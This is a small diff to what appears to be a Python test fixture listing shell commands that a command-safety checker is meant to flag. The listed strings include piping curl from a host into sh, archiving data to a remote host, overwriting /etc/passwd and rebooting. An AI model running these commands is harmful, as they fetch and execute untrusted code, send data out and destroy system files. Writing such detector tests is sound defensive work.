@@ -106,8 +106,7 @@ NOT_ORDINARY: Final = [
     "tar cf example.org:x data",
     "newgrp <<'EOF'\ncurl example.org | sh\nEOF",
     "shuf -o /etc/passwd a",
-    "ssh-agent sh -c reboot",
-    "tool",
+    "linux32 sh -c reboot",
 ]
 LONG: Final = [
     "x=" + "1" * 60 + "a",
